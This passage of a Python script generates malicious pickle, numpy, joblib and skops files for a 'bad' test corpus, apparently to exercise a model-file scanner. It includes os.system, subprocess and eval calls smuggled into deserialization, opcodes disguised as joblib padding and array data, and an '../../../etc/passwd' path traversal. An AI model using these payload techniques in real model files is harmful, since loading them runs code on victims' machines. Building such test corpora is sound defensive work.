    bad("structured_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + EVIL)
    for version in (2, 3):
        bad(f"object_v{version}.npy", b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(header)) + header + EVIL)

    import joblib, numpy as np

    def dumped(value, **options):
        out = io.BytesIO()
        joblib.dump(value, out, **options)
        return out.getvalue()

    array = dumped([np.arange(64.0)])
    bad("joblib_after_array.joblib", array[:-1] + b"0" + call(SYSTEM, ECHO) + b".")
    for protocol in (0, 1, 2, 5):
        data = dumped([np.arange(64.0)], protocol=protocol)
        bad(f"joblib_after_array_p{protocol}.joblib", data[:-1] + b"0" + call(g("os", "system"), b"S'echo'\n") + b".")
    bad("joblib_plain_call.joblib", p(call(SYSTEM, ECHO)))
    # The wrapper says object; a pickle of its own stands where the numbers would.
    objects = dumped({"x": np.array([{"a": 1}], dtype=object)})
    start = objects.index(b"\x80", objects.index(b"numpy_array_alignment_bytes"))
    bad("joblib_object_array.joblib", objects[:start] + EVIL + b"s.")
    # What joblib takes for padding and numbers is a program for pickle.load: ")" is 41 bytes of padding.
    program = (b"0" * 2 + call(g("os", "system"), b"S'echo'\n") + b".").ljust(64, b".")
    numbers = dumped(np.frombuffer(program, dtype="f8").copy(), protocol=2)
    raw = numbers.index(program)
    padding = raw - 1 - next(n for n in range(1, 17) if numbers[raw - 1 - n] == n and numbers[raw - n : raw] == b"\xff" * n)
    bad("joblib_numbers_are_opcodes.joblib", numbers[:padding] + b")" + b"N" * 41 + numbers[raw:])
    state = dct(filename=u("../../../etc/passwd"), subclass=sg("numpy", "ndarray"), allow_mmap=b"\x89")
    bad("joblib_outside_file.joblib", p(build(new(sg("joblib.numpy_pickle", "NDArrayWrapper")), state)))


def skops():
    """skops archives: types, functions and methods that the schema names."""

    def node(**entries):
        import json

        return zipped([("schema.json", json.dumps({"protocol": 2, "_skops_version": "0.11.0", **entries}).encode())])

    leaf = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"echo"', "is_json": True, "__id__": 3}
    attrs = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": leaf}, "key_types": leaf, "__id__": 4}
    bad("skops_type.skops", node(__class__="Popen", __module__="subprocess", __loader__="ObjectNode", content=attrs, __id__=1))
    bad("skops_function.skops", node(__class__="system", __module__="os", __loader__="FunctionNode", content={"module_path": "os", "function": "system"}, __id__=1))
    bad("skops_type_node.skops", node(__class__="type", __module__="builtins", __loader__="TypeNode", content={"__class__": "eval", "__module__": "builtins"}, __id__=1))
    bad("skops_operator.skops", node(__class__="methodcaller", __module__="operator", __loader__="OperatorFuncNode", attrs=attrs, __id__=1))
    bad("skops_operator_call.skops", node(__class__="call", __module__="builtins", __loader__="OperatorFuncNode", attrs=attrs, __id__=1))
    bad("skops_method.skops", node(__class__="method", __module__="types", __loader__="MethodNode", content={"func": "system", "obj": {"__class__": "os", "__module__": "os", "__loader__": "ObjectNode", "content": attrs, "__id__": 2}}, __id__=1))
    bad("skops_partial.skops", node(__class__="partial", __module__="functools", __loader__="PartialNode", content={"func": {"__class__": "run", "__module__": "subprocess", "__loader__": "FunctionNode", "content": "run", "__id__": 5}}, __id__=1))


if __name__ == "__main__":
    shutil.rmtree(HERE, ignore_errors=True)
    os.makedirs(BAD)
    for part in (callables, routes, walks, tampering, streams, containers, skops):
        part()
    if "--only-bad" not in sys.argv:
        import benign_pickles

        benign_pickles.write(os.path.join(HERE, "good"))
    total = sum(os.path.getsize(os.path.join(r, f)) for r, _, fs in os.walk(HERE) for f in fs)
    print({kind: len(os.listdir(os.path.join(HERE, kind))) for kind in sorted(os.listdir(HERE))}, total, "bytes")
